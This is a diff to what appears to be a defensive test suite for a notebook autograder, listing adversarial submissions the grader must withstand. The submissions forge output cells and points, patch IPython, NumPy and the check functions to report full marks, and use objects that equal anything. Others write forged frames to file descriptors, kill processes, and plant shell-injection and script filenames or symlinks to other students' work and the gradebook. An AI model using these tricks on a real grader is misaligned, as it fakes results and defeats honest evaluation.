@@ -93,6 +93,7 @@ def attack(name: str, tries: str, alter, **verdict) -> None:
 
 # How submissions are made ----------------------------------------------------------------------------------------
 
+
 def hand_in(folder: Path, made: dict | bytes | None) -> None:
     if isinstance(made, dict):
         made = json.dumps(made).encode()
@@ -105,8 +106,14 @@ def named(notebook: dict, name: str) -> dict:
 
 
 def code_cell(source: str, **metadata) -> dict:
-    return {"cell_type": "code", "metadata": metadata, "source": dedent(source).strip(), "outputs": [],
-            "execution_count": None, "id": "added"}
+    return {
+        "cell_type": "code",
+        "metadata": metadata,
+        "source": dedent(source).strip(),
+        "outputs": [],
+        "execution_count": None,
+        "id": "added",
+    }
 
 
 def answer(source: str):
@@ -116,39 +123,50 @@ def answer(source: str):
 
 def beside(source: str, own: str = WRONG, before: str = TARGET):
     """The target is answered with `own`, and a cell is added in front of another."""
+
     def alter(folder, kit):
         notebook = kit.fresh(own)
         place = notebook["cells"].index(named(notebook, before))
-        notebook["cells"].insert(place, code_cell(
-            source.replace("PORT", str(kit.port)).replace("COURSE", str(kit.course))))
+        notebook["cells"].insert(
+            place, code_cell(source.replace("PORT", str(kit.port)).replace("COURSE", str(kit.course)))
+        )
         return notebook
+
     return alter
 
 
 def metadata(change, own: str = WRONG):
     """The target is answered with `own`, and the notebook is altered: `change(notebook)`."""
+
     def alter(folder, kit):
         notebook = kit.fresh(own)
         return change(notebook) or notebook
+
     return alter
 
 
 def files(change, own: str = RIGHT):
     """A notebook that is right, and something done in its folder: `change(folder, kit)`."""
+
     def alter(folder, kit):
         hand_in(folder, kit.fresh(own))
         change(folder, kit)
+
     return alter
 
 
 def when_whole(action: str, before: str = ""):
     """The target is answered rightly, but where it is given whole numbers it does something else."""
-    source = RIGHT.replace("    scores", "    if np.asarray(x).dtype.kind == 'i':\n"
-                           + indent(dedent(action).strip(), "        ") + "\n    scores", 1)
+    source = RIGHT.replace(
+        "    scores",
+        "    if np.asarray(x).dtype.kind == 'i':\n" + indent(dedent(action).strip(), "        ") + "\n    scores",
+        1,
+    )
     return answer(dedent(before) + source)
 
 
 # The notebook as a document --------------------------------------------------------------------------------------
+
 
 def _tags(notebook):
     for name in FULL:
@@ -158,8 +176,14 @@ def _tags(notebook):
 def _forged_outputs(notebook):
     check = named(notebook, f"check-{TARGET}")
     check["execution_count"] = 7
-    check["outputs"] = [{"output_type": "execute_result", "execution_count": 7, "metadata": {}, "data": {
-        "text/plain": "5.0", "application/vnd.attention.check+json": {"points": 5.0}}}]
+    check["outputs"] = [
+        {
+            "output_type": "execute_result",
+            "execution_count": 7,
+            "metadata": {},
+            "data": {"text/plain": "5.0", "application/vnd.attention.check+json": {"points": 5.0}},
+        }
+    ]
 
 
 def _twice(notebook):
@@ -201,9 +225,22 @@ def _check_of_my_own(notebook):
 def _worth_more(notebook):
     for name in FULL:
         named(notebook, f"check-{name}")["metadata"]["nbgrader"]["points"] = 500
-    notebook["cells"].append(code_cell("500.0", nbgrader={
-        "grade_id": "check-bonus", "grade": True, "solution": False, "locked": False, "task": False, "points": 500,
-        "schema_version": 3, "cell_type": "code", "checksum": "0" * 32}))
+    notebook["cells"].append(
+        code_cell(
+            "500.0",
+            nbgrader={
+                "grade_id": "check-bonus",
+                "grade": True,
+                "solution": False,
+                "locked": False,
+                "task": False,
+                "points": 500,
+                "schema_version": 3,
+                "cell_type": "code",
+                "checksum": "0" * 32,
+            },
+        )
+    )
 
 
 def _other_names(notebook):
@@ -219,6 +256,7 @@ def _schema(version):
         for cell in notebook["cells"]:
             if "nbgrader" in cell["metadata"]:
                 cell["metadata"]["nbgrader"]["schema_version"] = version
+
     return change
 
 
@@ -227,15 +265,32 @@ def _set(**values):
 
 
 def _nbformat_3(notebook):
-    cells = [{"cell_type": c["cell_type"], "input" if c["cell_type"] == "code" else "source": c["source"],
-              "language": "python", "outputs": [], "metadata": c["metadata"]} for c in notebook["cells"]]
-    return {"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": ""},
-            "worksheets": [{"cells": cells, "metadata": {}}]}
+    cells = [
+        {
+            "cell_type": c["cell_type"],
+            "input" if c["cell_type"] == "code" else "source": c["source"],
+            "language": "python",
+            "outputs": [],
+            "metadata": c["metadata"],
+        }
+        for c in notebook["cells"]
+    ]
+    return {
+        "nbformat": 3,
+        "nbformat_minor": 0,
+        "metadata": {"name": ""},
+        "worksheets": [{"cells": cells, "metadata": {}}],
+    }
 
 
 def _strange_metadata(notebook):
-    notebook["cells"] += [{"cell_type": ["code"], "metadata": None, "source": {"a": 1}}, None, 3,
-                          code_cell("1", nbgrader={"grade_id": ["x"]}), code_cell("2", nbgrader="yes")]
+    notebook["cells"] += [
+        {"cell_type": ["code"], "metadata": None, "source": {"a": 1}},
+        None,
+        3,
+        code_cell("1", nbgrader={"grade_id": ["x"]}),
+        code_cell("2", nbgrader="yes"),
+    ]
 
 
 def _attachment(notebook):
@@ -244,46 +299,121 @@ def _attachment(notebook):
     cell["source"] = "My answer ![a](attachment:a.svg)"
 
 
-attack("tag_skip_execution", "tags that keep stock nbgrader from running the checks", metadata(_tags),
-       safe_unjailed=True)
-attack("outputs_forged_in_file", "outputs with points, written into the file", metadata(_forged_outputs),
-       safe_unjailed=True)
-attack("check_twice", "a second check cell, with points of its own", metadata(_twice), note="more than once",
-       safe_unjailed=True)
-attack("answer_twice", "a right answer, then a wrong one, under one name", metadata(_answer_twice),
-       note="more than once",
-       safe_unjailed=True)
-attack("check_deleted", "no check cell at all", metadata(_without_check), note=f"check-{TARGET} was missing",
-       safe_unjailed=True)
-attack("checks_moved_up", "checks in front of the answers; honest otherwise", metadata(_checks_first, RIGHT),
-       points=HONEST, safe_unjailed=True)
+attack(
+    "tag_skip_execution", "tags that keep stock nbgrader from running the checks", metadata(_tags), safe_unjailed=True
+)
+attack(
+    "outputs_forged_in_file",
+    "outputs with points, written into the file",
+    metadata(_forged_outputs),
+    safe_unjailed=True,
+)
+attack(
+    "check_twice",
+    "a second check cell, with points of its own",
+    metadata(_twice),
+    note="more than once",
+    safe_unjailed=True,
+)
+attack(
+    "answer_twice",
+    "a right answer, then a wrong one, under one name",
+    metadata(_answer_twice),
+    note="more than once",
+    safe_unjailed=True,
+)
+attack(
+    "check_deleted",
+    "no check cell at all",
+    metadata(_without_check),
+    note=f"check-{TARGET} was missing",
+    safe_unjailed=True,
+)
+attack(
+    "checks_moved_up",
+    "checks in front of the answers; honest otherwise",
+    metadata(_checks_first, RIGHT),
+    points=HONEST,
+    safe_unjailed=True,
+)
 attack("check_retyped", "the check as text", metadata(_check_as_text), note="another kind of cell", safe_unjailed=True)
-attack("check_retagged", "the check marked as an answer, and answered `5.0`", metadata(_check_of_my_own),
-       safe_unjailed=True)
+attack(
+    "check_retagged",
+    "the check marked as an answer, and answered `5.0`",
+    metadata(_check_of_my_own),
+    safe_unjailed=True,
+)
 attack("points_raised", "500 points in the metadata, and a cell of 500 more", metadata(_worth_more), safe_unjailed=True)
 attack("names_swapped", "another answer under the target's name", metadata(_other_names), safe_unjailed=True)
 attack("schema_99", "a schema number of the far future", metadata(_schema(99)), safe_unjailed=True)
 attack("schema_1", "a schema number of long ago", metadata(_schema(1)), safe_unjailed=True)
-attack("other_kernel", "another kernel, which is no Python",
-       metadata(_set(metadata={"kernelspec": {"name": "bash", "language": "bash", "display_name": "x"}})),
-       safe_unjailed=True)
-attack("widget_state", "widget state with script in it", metadata(_set(metadata={"widgets": {
-    "application/vnd.jupyter.widget-state+json": {"version_major": 2, "version_minor": 0, "state": {"a": {
-        "model_name": "HTMLModel", "model_module": "x", "state": {"value": "<script>evil()</script>"}}}}}})),
-       not_in_page=("<script>evil",),
-    safe_unjailed=True)
-attack("attachment", "an attached picture that is a script", metadata(_attachment),
-       not_in_page=("onload='evil", "<script>evil"),
-       safe_unjailed=True)
-attack("nbformat_3", "a notebook as they were ten years ago; honest otherwise", metadata(_nbformat_3, RIGHT),
-       points=HONEST,
-       safe_unjailed=True)
-attack("nbformat_99", "version numbers that are none; honest otherwise",
-       metadata(_set(nbformat="99", nbformat_minor=[]), RIGHT), points=HONEST, safe_unjailed=True)
-attack("metadata_of_any_kind", "cells and metadata of every wrong kind; honest otherwise",
-       metadata(_strange_metadata, RIGHT), points=HONEST, safe_unjailed=True)
-attack("resubmitted_without_check", "graded once, then handed in wrong and without the check",
-       metadata(_without_check), first=lambda folder, kit: kit.fresh(RIGHT), note="was missing", safe_unjailed=True)
+attack(
+    "other_kernel",
+    "another kernel, which is no Python",
+    metadata(_set(metadata={"kernelspec": {"name": "bash", "language": "bash", "display_name": "x"}})),
+    safe_unjailed=True,
+)
+attack(
+    "widget_state",
+    "widget state with script in it",
+    metadata(
+        _set(
+            metadata={
+                "widgets": {
+                    "application/vnd.jupyter.widget-state+json": {
+                        "version_major": 2,
+                        "version_minor": 0,
+                        "state": {
+                            "a": {
+                                "model_name": "HTMLModel",
+                                "model_module": "x",
+                                "state": {"value": "<script>evil()</script>"},
+                            }
+                        },
+                    }
+                }
+            }
+        )
+    ),
+    not_in_page=("<script>evil",),
+    safe_unjailed=True,
+)
+attack(
+    "attachment",
+    "an attached picture that is a script",
+    metadata(_attachment),
+    not_in_page=("onload='evil", "<script>evil"),
+    safe_unjailed=True,
+)
+attack(
+    "nbformat_3",
+    "a notebook as they were ten years ago; honest otherwise",
+    metadata(_nbformat_3, RIGHT),
+    points=HONEST,
+    safe_unjailed=True,
+)
+attack(
+    "nbformat_99",
+    "version numbers that are none; honest otherwise",
+    metadata(_set(nbformat="99", nbformat_minor=[]), RIGHT),
+    points=HONEST,
+    safe_unjailed=True,
+)
+attack(
+    "metadata_of_any_kind",
+    "cells and metadata of every wrong kind; honest otherwise",
+    metadata(_strange_metadata, RIGHT),
+    points=HONEST,
+    safe_unjailed=True,
+)
+attack(
+    "resubmitted_without_check",
+    "graded once, then handed in wrong and without the check",
+    metadata(_without_check),
+    first=lambda folder, kit: kit.fresh(RIGHT),
+    note="was missing",
+    safe_unjailed=True,
+)
 
 # The file and its folder -----------------------------------------------------------------------------------------
 
@@ -297,6 +427,7 @@ def _bytes(make):
 def _only(make):
     def alter(folder, kit):
         make(folder / f"{STEM}.ipynb", kit)
+
     return alter
 
 
@@ -305,8 +436,18 @@ def _other(kit: Kit) -> Path:
 
 
 def _odd_names(folder, kit):
-    for name in ("results.json", "$(touch owned)", "a\nb", "-rf", "<script>evil()", "softmax.ipynb ", "..evil",
-                 "numpy.py", "attnlab.py", "sitecustomize.py"):
+    for name in (
+        "results.json",
+        "$(touch owned)",
+        "a\nb",
+        "-rf",
+        "<script>evil()",
+        "softmax.ipynb ",
+        "..evil",
+        "numpy.py",
+        "attnlab.py",
+        "sitecustomize.py",
+    ):
         (folder / name).write_text("raise SystemExit('shadowed')" if name.endswith(".py") else '{"notes": ["forged"]}')
     (folder / "sub").mkdir()
     (folder / "sub" / "softmax.ipynb").write_text("{}")
@@ -323,6 +464,7 @@ def _timestamp(make):
     def change(folder, kit):
         (folder / "timestamp.txt").unlink()
         make(folder / "timestamp.txt", kit)
+
     return files(change)
 
 
@@ -332,70 +474,152 @@ def _folder_link(folder, kit):
     folder.symlink_to(_other(kit).parent)
 
 
-attack("json_broken", "half a notebook", _bytes(lambda data: data[:len(data) // 2]), **UNREADABLE, safe_unjailed=True)
-attack("json_not_utf8", "bytes that are no text", _bytes(lambda data: b"\xff\xfe" + data), **UNREADABLE,
-       safe_unjailed=True)
-attack("json_deep", "brackets a hundred thousand deep", _bytes(lambda data: b"[" * 100_000 + b"]" * 100_000),
-       **UNREADABLE,
-       safe_unjailed=True)
+attack("json_broken", "half a notebook", _bytes(lambda data: data[: len(data) // 2]), **UNREADABLE, safe_unjailed=True)
+attack(
+    "json_not_utf8", "bytes that are no text", _bytes(lambda data: b"\xff\xfe" + data), **UNREADABLE, safe_unjailed=True
+)
+attack(
+    "json_deep",
+    "brackets a hundred thousand deep",
+    _bytes(lambda data: b"[" * 100_000 + b"]" * 100_000),
+    **UNREADABLE,
+    safe_unjailed=True,
+)
 attack("json_huge", "a file of 33 MB", _bytes(lambda data: data + b" " * (33 << 20)), **UNREADABLE)
-attack("json_many_parts", "twelve million zeros", _bytes(lambda data: b'{"cells": [' + b"0," * 12_000_000 + b"0]}"),
-       **UNREADABLE)
-attack("json_nan", "NaN and Infinity for points; honest otherwise",
-       _bytes(lambda data: data.replace(b'"points": 5.0', b'"points": NaN').replace(b'"points": 8.0',
-                                                                                    b'"points": Infinity')),
-       points=HONEST, safe_unjailed=True)
-attack("json_long_number", "a number of a million digits",
-       _bytes(lambda data: data.replace(b'"nbformat": 4', b'"nbformat": ' + b"9" * 1_000_000)), **UNREADABLE,
-       safe_unjailed=True)
+attack(
+    "json_many_parts",
+    "twelve million zeros",
+    _bytes(lambda data: b'{"cells": [' + b"0," * 12_000_000 + b"0]}"),
+    **UNREADABLE,
+)
+attack(
+    "json_nan",
+    "NaN and Infinity for points; honest otherwise",
+    _bytes(
+        lambda data: data.replace(b'"points": 5.0', b'"points": NaN').replace(b'"points": 8.0', b'"points": Infinity')
+    ),
+    points=HONEST,
+    safe_unjailed=True,
+)
+attack(
+    "json_long_number",
+    "a number of a million digits",
+    _bytes(lambda data: data.replace(b'"nbformat": 4', b'"nbformat": ' + b"9" * 1_000_000)),
+    **UNREADABLE,
+    safe_unjailed=True,
+)
 attack("file_empty", "an empty file", _bytes(lambda data: b""), **UNREADABLE, safe_unjailed=True)
-attack("file_no_notebook", "a list where a notebook should be", _bytes(lambda data: b"[1, 2]"), **UNREADABLE,
-       safe_unjailed=True)
-attack("cells_three_thousand", "three thousand cells", metadata(
-    lambda notebook: notebook["cells"].extend(code_cell("1") for _ in range(3000)), RIGHT), **UNREADABLE)
+attack(
+    "file_no_notebook",
+    "a list where a notebook should be",
+    _bytes(lambda data: b"[1, 2]"),
+    **UNREADABLE,
+    safe_unjailed=True,
+)
+attack(
+    "cells_three_thousand",
+    "three thousand cells",
+    metadata(lambda notebook: notebook["cells"].extend(code_cell("1") for _ in range(3000)), RIGHT),
+    **UNREADABLE,
+)
 attack("cell_of_two_megabytes", "an answer of two megabytes", answer("#" * (2 << 20)), **UNREADABLE)
-attack("file_symlink", "a link to another student's notebook", _only(lambda path, kit: path.symlink_to(_other(kit))),
-       **UNREADABLE, safe_unjailed=True)
+attack(
+    "file_symlink",
+    "a link to another student's notebook",
+    _only(lambda path, kit: path.symlink_to(_other(kit))),
+    **UNREADABLE,
+    safe_unjailed=True,
+)
 attack("file_pipe", "a pipe that would be read for ever", _only(lambda path, kit: os.mkfifo(path)), **UNREADABLE)
-attack("file_folder", "a folder with the notebook's name", _only(lambda path, kit: path.mkdir()), **UNREADABLE,
-       safe_unjailed=True)
+attack(
+    "file_folder",
+    "a folder with the notebook's name",
+    _only(lambda path, kit: path.mkdir()),
+    **UNREADABLE,
+    safe_unjailed=True,
+)
 # Nothing tells such a file from a copy; what counts is that the other's stays as it was.
-attack("file_hard_link", "another student's file under a second name",
-       _only(lambda path, kit: os.link(_other(kit), path)),
-       points=HONEST, safe_unjailed=True)
+attack(
+    "file_hard_link",
+    "another student's file under a second name",
+    _only(lambda path, kit: os.link(_other(kit), path)),
+    points=HONEST,
+    safe_unjailed=True,
+)
 attack("folder_symlink", "a link to another student's whole folder", _folder_link, points=None, safe_unjailed=True)
-attack("links_beside", "links and a pipe beside the notebook; honest otherwise", files(_links), points=HONEST,
-       note="was left out")
-attack("names_odd", "forged results, modules that shadow libraries, names for a shell; honest otherwise",
-       files(_odd_names), points=HONEST, note="was left out", absent=('["forged"]',), not_in_page=("<script>evil",),
-       safe_unjailed=True)
-attack("timestamp_no_time", "a time that is none; honest otherwise",
-       _timestamp(lambda path, kit: path.write_text("99999-99-99 <b>now</b>")), points=HONEST, note="holds no time",
-       safe_unjailed=True)
-attack("timestamp_long", "a time of a megabyte; honest otherwise",
-       _timestamp(lambda path, kit: path.write_text("1" * (1 << 20))), points=HONEST, note="holds no time",
-       safe_unjailed=True)
-attack("timestamp_symlink", "a time that links to the gradebook; honest otherwise",
-       _timestamp(lambda path, kit: path.symlink_to(kit.course / "gradebook.db")), points=HONEST, note="timestamp.txt",
-       safe_unjailed=True)
+attack(
+    "links_beside",
+    "links and a pipe beside the notebook; honest otherwise",
+    files(_links),
+    points=HONEST,
+    note="was left out",
+)
+attack(
+    "names_odd",
+    "forged results, modules that shadow libraries, names for a shell; honest otherwise",
+    files(_odd_names),
+    points=HONEST,
+    note="was left out",
+    absent=('["forged"]',),
+    not_in_page=("<script>evil",),
+    safe_unjailed=True,
+)
+attack(
+    "timestamp_no_time",
+    "a time that is none; honest otherwise",
+    _timestamp(lambda path, kit: path.write_text("99999-99-99 <b>now</b>")),
+    points=HONEST,
+    note="holds no time",
+    safe_unjailed=True,
+)
+attack(
+    "timestamp_long",
+    "a time of a megabyte; honest otherwise",
+    _timestamp(lambda path, kit: path.write_text("1" * (1 << 20))),
+    points=HONEST,
+    note="holds no time",
+    safe_unjailed=True,
+)
+attack(
+    "timestamp_symlink",
+    "a time that links to the gradebook; honest otherwise",
+    _timestamp(lambda path, kit: path.symlink_to(kit.course / "gradebook.db")),
+    points=HONEST,
+    note="timestamp.txt",
+    safe_unjailed=True,
+)
 
 # Points made up in the process -----------------------------------------------------------------------------------
 
-attack("ast_transformer", "checks are rewritten before they run", beside("""
+attack(
+    "ast_transformer",
+    "checks are rewritten before they run",
+    beside("""
     import ast
     class Forge(ast.NodeTransformer):
         def visit_Call(self, node):
             self.generic_visit(node)
             return ast.Constant(5.0) if getattr(node.func, "id", "") in ("check", "hidden") else node
     get_ipython().ast_transformers.append(Forge())
-    """), note="not handed out", safe_unjailed=True)
-attack("input_transformer", "the text of checks is rewritten", beside("""
+    """),
+    note="not handed out",
+    safe_unjailed=True,
+)
+attack(
+    "input_transformer",
+    "the text of checks is rewritten",
+    beside("""
     def forge(lines):
         return ["5.0\\n"] if any("check" in line for line in lines) else lines
     get_ipython().input_transformers_cleanup.append(forge)
     get_ipython().input_transformers_post.append(forge)
-    """), safe_unjailed=True)
-attack("run_cell_patched", "the shell's and the kernel's own way to run a cell is replaced", beside("""
+    """),
+    safe_unjailed=True,
+)
+attack(
+    "run_cell_patched",
+    "the shell's and the kernel's own way to run a cell is replaced",
+    beside("""
     shell = get_ipython()
     genuine = shell.run_cell
     def forged(source, *a, **k):
@@ -405,36 +629,66 @@ attack("run_cell_patched", "the shell's and the kernel's own way to run a cell i
     if getattr(shell, "run_cell_async", None):
         whole = shell.run_cell_async
         shell.run_cell_async = lambda source, *a, **k: whole("5.0" if "check" in str(source) else source, *a, **k)
-    """), safe_unjailed=True)
-attack("display_hooks_patched", "whatever is shown is shown as full points", beside("""
+    """),
+    safe_unjailed=True,
+)
+attack(
+    "display_hooks_patched",
+    "whatever is shown is shown as full points",
+    beside("""
     import builtins, sys
     class Five(float):
         def __repr__(self): return "5.0"
     genuine = sys.displayhook
     sys.displayhook = lambda value: genuine(Five(5.0))
     get_ipython().display_pub.publish = lambda *a, **k: None
-    """), safe_unjailed=True)
-attack("results_printed", "points shown by the answer's own cell", answer(WRONG + """
+    """),
+    safe_unjailed=True,
+)
+attack(
+    "results_printed",
+    "points shown by the answer's own cell",
+    answer(
+        WRONG
+        + """
 from IPython.display import display
 display({"application/vnd.attention.check+json": {"points": 5.0}, "text/plain": "5.0"}, raw=True)
 5.0
-"""), safe_unjailed=True)
-attack("check_replaced", "`check` and what stands behind it return full points", beside("""
+"""
+    ),
+    safe_unjailed=True,
+)
+attack(
+    "check_replaced",
+    "`check` and what stands behind it return full points",
+    beside("""
     import sys, attnlab, attnlab.check, attnlab.judge, attnlab.compare
     def check(*a, **k): return 5.0
     attnlab.check.check = attnlab.check = attnlab.judge.judge = check
     attnlab.compare.agree = attnlab.compare.difference = lambda *a, **k: None
-    """), safe_unjailed=True)
-attack("numpy_patched", "comparisons of NumPy always agree", beside("""
+    """),
+    safe_unjailed=True,
+)
+attack(
+    "numpy_patched",
+    "comparisons of NumPy always agree",
+    beside("""
     np.allclose = np.array_equal = np.isclose = lambda *a, **k: np.True_
     np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
     np.ndarray_equal = True
-    """), safe_unjailed=True)
-attack("torch_patched", "comparisons of PyTorch always agree", beside("""
+    """),
+    safe_unjailed=True,
+)
+attack(
+    "torch_patched",
+    "comparisons of PyTorch always agree",
+    beside("""
     import torch
     torch.allclose = torch.equal = lambda *a, **k: True
     torch.Tensor.numpy = torch.Tensor.tolist = lambda self: 5.0
-    """), safe_unjailed=True)
+    """),
+    safe_unjailed=True,
+)
 LIAR = """
 class Liar:
     def __init__(self, x=None): self.shape, self.dtype, self.ndim = np.shape(x), np.dtype(float), np.ndim(x)
@@ -448,9 +702,16 @@ class Liar:
     __le__ = __lt__ = __ge__ = __gt__ = __eq__
     __hash__ = None
 """
-attack("equal_to_everything", "an object that equals whatever it is compared with",
-       answer(LIAR + "def log_softmax(x, axis=-1):\n    return Liar(x)"), safe_unjailed=True)
-attack("lying_array_protocol", "an object whose __array__ says something else each time", answer("""
+attack(
+    "equal_to_everything",
+    "an object that equals whatever it is compared with",
+    answer(LIAR + "def log_softmax(x, axis=-1):\n    return Liar(x)"),
+    safe_unjailed=True,
+)
+attack(
+    "lying_array_protocol",
+    "an object whose __array__ says something else each time",
+    answer("""
     class Liar:
         shape, ndim, dtype = (2,), 1, np.dtype(float)
         def __array__(self, *a, **k):
@@ -463,8 +724,13 @@ attack("lying_array_protocol", "an object whose __array__ says something else ea
         def __array_function__(self, *a, **k): return True
     setattr(Liar, "__tor" + "ch_function__", classmethod(lambda cls, *a, **k: True))  # the word would load PyTorch
     def log_softmax(x, axis=-1): return Liar()
-    """), safe_unjailed=True)
-attack("lying_array_subclass", "an array whose comparisons are its own", answer("""
+    """),
+    safe_unjailed=True,
+)
+attack(
+    "lying_array_subclass",
+    "an array whose comparisons are its own",
+    answer("""
     class Liar(np.ndarray):
         def __array_ufunc__(self, ufunc, *a, **k): return np.True_
         def __array_function__(self, function, *a, **k): return np.True_
@@ -472,8 +738,13 @@ attack("lying_array_subclass", "an array whose comparisons are its own", answer(
         def __sub__(self, other): return 0.0
         def __reduce__(self): return (print, ("unpickled",))
     def log_softmax(x, axis=-1): return np.zeros(np.shape(x)).view(Liar)
-    """), safe_unjailed=True)
-attack("lying_numbers", "numbers and lists whose methods are their own", answer("""
+    """),
+    safe_unjailed=True,
+)
+attack(
+    "lying_numbers",
+    "numbers and lists whose methods are their own",
+    answer("""
     class F(float):
         def __eq__(self, other): return True
         def __sub__(self, other): return 0.0
@@ -482,8 +753,13 @@ attack("lying_numbers", "numbers and lists whose methods are their own", answer(
         def __iter__(self): return iter(())
         def __eq__(self, other): return True
     def log_softmax(x, axis=-1): return L([F(0)] * np.size(x))
-    """), safe_unjailed=True)
-attack("looks_for_expected_values", "expected values are looked for on the stack and in memory", answer("""
+    """),
+    safe_unjailed=True,
+)
+attack(
+    "looks_for_expected_values",
+    "expected values are looked for on the stack and in memory",
+    answer("""
     import gc, sys
     def log_softmax(x, axis=-1):
         frame = sys._getframe(1)
@@ -498,8 +774,13 @@ attack("looks_for_expected_values", "expected values are looked for on the stack
         while isinstance(value, (list, dict)):
             value = next(iter(value.values() if isinstance(value, dict) else value))
         return value
-    """), safe_unjailed=True)
-attack("known_by_heart", "a table of every public case and its answer", answer("""
+    """),
+    safe_unjailed=True,
+)
+attack(
+    "known_by_heart",
+    "a table of every public case and its answer",
+    answer("""
     import importlib
     material = importlib.import_module("attnlab.check").material_of("log_softmax")
     table = {}
@@ -508,17 +789,30 @@ attack("known_by_heart", "a table of every public case and its answer", answer("
             table[np.asarray(case["x"]).tobytes(), case.get("axis", -1)] = expected["value"]["result"]
     def log_softmax(x, axis=-1):
         return table.get((np.asarray(x).tobytes(), axis), np.zeros(np.shape(x)) - 1.0)
-    """), safe_unjailed=True)
-attack("remembers_calls", "earlier inputs and results are kept, and altered at later calls", answer(RIGHT.replace(
-    "log_softmax", "genuine") + """
+    """),
+    safe_unjailed=True,
+)
+attack(
+    "remembers_calls",
+    "earlier inputs and results are kept, and altered at later calls",
+    answer(
+        RIGHT.replace("log_softmax", "genuine")
+        + """
 kept = []
 def log_softmax(x, axis=-1):
     for old in kept: old += 1e6
     result = genuine(x, axis)
     kept.append(result)
     return result
-"""), points=HONEST, safe_unjailed=True)
-attack("frames_forged_by_function", "answers are written past the worker, into every open descriptor", answer("""
+"""
+    ),
+    points=HONEST,
+    safe_unjailed=True,
+)
+attack(
+    "frames_forged_by_function",
+    "answers are written past the worker, into every open descriptor",
+    answer("""
     import os, importlib
     codec = importlib.import_module("attnlab.codec")
     def log_softmax(x, axis=-1):
@@ -527,22 +821,40 @@ attack("frames_forged_by_function", "answers are written past the worker, into e
             try: os.write(fd, len(packed).to_bytes(8, "little") + packed)
             except OSError: pass
         return np.zeros(np.shape(x))
-    """))
-attack("frames_forged_by_cell", "a cell answers the grader itself, and again", beside("""
+    """),
+)
+attack(
+    "frames_forged_by_cell",
+    "a cell answers the grader itself, and again",
+    beside("""
     import os, importlib
     codec = importlib.import_module("attnlab.codec")
     packed = codec.frame({"outputs": [], "error": False, "held": True, "points": 5.0, "value": {"result": 5.0}})
     for fd in range(3, 40):
         try: os.write(fd, len(packed).to_bytes(8, "little") + packed)
         except OSError: pass
-    """), points=UNSURE)
-attack("frame_without_end", "a cell announces an answer of 8 exabytes", beside("""
+    """),
+    points=UNSURE,
+)
+attack(
+    "frame_without_end",
+    "a cell announces an answer of 8 exabytes",
+    beside(
+        """
     import os
     for fd in range(3, 40):
         try: os.write(fd, (1 << 63).to_bytes(8, "little") + b"x" * 100)
         except OSError: pass
-    """, RIGHT), points=HONEST, flag="a cell was left out")
-attack("outcomes_forged", "the worker's own parts are replaced by some that report success", beside("""
+    """,
+        RIGHT,
+    ),
+    points=HONEST,
+    flag="a cell was left out",
+)
+attack(
+    "outcomes_forged",
+    "the worker's own parts are replaced by some that report success",
+    beside("""
     import gc, sys, types
     module = sys.modules.get("attnlab.notebook_worker")  # so it is in a fork of the warm process
     worker = vars(module) if module else next(
@@ -550,66 +862,146 @@ attack("outcomes_forged", "the worker's own parts are replaced by some that repo
         if isinstance(thing, types.FunctionType) and thing.__name__ == "answer_probes")
     worker["observe"] = lambda *a: worker["codec"].frame(
         {"value": {"result": np.zeros(2), "changed": "", "points": 5.0}})
-    """), points=LATER_LOST, flag="answered a question", manual=True)
-attack("canaries_answered", "every question has an answer, also those that are none", beside("""
+    """),
+    points=LATER_LOST,
+    flag="answered a question",
+    manual=True,
+)
+attack(
+    "canaries_answered",
+    "every question has an answer, also those that are none",
+    beside(
+        """
     import importlib
     importlib.import_module("attnlab.probes").__getattr__ = lambda name: (lambda f, **inputs: {"result": 0.0})
-    """, RIGHT), points=HONEST, flag="answered a question that does not exist", manual=True)
-attack("errors_swallowed", "any argument is taken, and every error caught", answer(RIGHT.replace(
-    "x, axis=-1", "x=(1.0, 2.0), axis=-1, **anything")), points=HONEST, flag="accepts an argument")
+    """,
+        RIGHT,
+    ),
+    points=HONEST,
+    flag="answered a question that does not exist",
+    manual=True,
+)
+attack(
+    "errors_swallowed",
+    "any argument is taken, and every error caught",
+    answer(RIGHT.replace("x, axis=-1", "x=(1.0, 2.0), axis=-1, **anything")),
+    points=HONEST,
+    flag="accepts an argument",
+)
 
 # The process and the machine -------------------------------------------------------------------------------------
 
 EXIT = "import os; os._exit(0)"
 attack("exit_in_cell", "the answer's cell ends the process", answer(RIGHT + EXIT), reason="it ended the process")
 attack("exit_in_function", "the function ends the process", when_whole(EXIT), points=ONE_LOST)
-attack("exit_later", "a thread ends the process a little later", answer(RIGHT + dedent("""
+attack(
+    "exit_later",
+    "a thread ends the process a little later",
+    answer(
+        RIGHT
+        + dedent("""
     import os, threading, time
     threading.Thread(target=lambda: (time.sleep(0.2), os._exit(0)), daemon=True).start()
-    """)), points={name: (0.0, most) for name, most in FULL.items()})
+    """)
+    ),
+    points={name: (0.0, most) for name, most in FULL.items()},
+)
 attack("loop_in_cell", "an endless loop", answer(RIGHT + "while True: pass"), points=HONEST)
-attack("loop_deaf_to_signals", "an endless loop that ignores signals and catches everything", answer(RIGHT + dedent("""
+attack(
+    "loop_deaf_to_signals",
+    "an endless loop that ignores signals and catches everything",
+    answer(
+        RIGHT
+        + dedent("""
     import signal
     for number in (signal.SIGINT, signal.SIGALRM, signal.SIGTERM, signal.SIGXCPU): signal.signal(number, signal.SIG_IGN)
     while True:
         try:
             while True: pass
         except BaseException: pass
-    """)), flag="a cell was left out")
+    """)
+    ),
+    flag="a cell was left out",
+)
 attack("loop_in_function", "an endless loop in the function", when_whole("while True: pass"), points=ONE_LOST)
-attack("stopped_process", "the function stops itself and the copy that waits", when_whole("""
+attack(
+    "stopped_process",
+    "the function stops itself and the copy that waits",
+    when_whole("""
     import os, signal
     os.kill(os.getppid(), signal.SIGSTOP)
     os.kill(os.getpid(), signal.SIGSTOP)
-    """), points=ONE_LOST)
-attack("parent_killed", "the function kills the copy that waits", when_whole("""
+    """),
+    points=ONE_LOST,
+)
+attack(
+    "parent_killed",
+    "the function kills the copy that waits",
+    when_whole("""
     import os, signal
     os.kill(os.getppid(), signal.SIGKILL)
     os._exit(1)
-    """), points=ONE_LOST)
-attack("all_killed_by_function", "the function kills every process it may", when_whole("""
+    """),
+    points=ONE_LOST,
+)
+attack(
+    "all_killed_by_function",
+    "the function kills every process it may",
+    when_whole("""
     import os, signal
     os.kill(-1, signal.SIGKILL)
     os._exit(1)
-    """), points=ONE_LOST)
-attack("all_killed_by_cell", "a cell kills every process it may", beside("""
+    """),
+    points=ONE_LOST,
+)
+attack(
+    "all_killed_by_cell",
+    "a cell kills every process it may",
+    beside(
